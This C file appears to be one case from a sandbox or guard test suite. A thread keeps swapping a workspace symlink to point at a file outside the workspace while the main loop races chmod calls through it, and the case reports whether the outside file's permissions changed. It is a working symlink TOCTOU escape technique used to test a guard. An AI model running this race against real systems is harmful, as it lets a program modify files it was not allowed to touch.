// escape: swap a symlink in the workspace between the check and the call
// layer: guard
// outside: works
#include "payload.h"

static char *link_path, *next_path, *theirs;
static volatile int stop;

static void *swap(void *none) {
    for (int i = 0; !stop; i++) {
        unlink(next_path);
        if (symlink(i & 1 ? "mine" : theirs, next_path) < 0) continue;
        rename(next_path, link_path);
    }
    return NULL;
}

static void attempt(void) {
    pthread_t thread;
    theirs = in("out", "victim.txt");
    own_file("mine", 0644);
    link_path = join("ws", "link");
    next_path = join("ws", "next");
    if (pthread_create(&thread, NULL, swap, NULL)) skip("no thread");
    mode_t before = stat_of(theirs).st_mode;
    for (double end = seconds() + 0.5; seconds() < end;) {
        chmod(link_path, 0600);
        if (stat_of(theirs).st_mode != before) worked("won the race for the symlink");
    }
    stop = 1;
    no_effect("racing chmod");
}
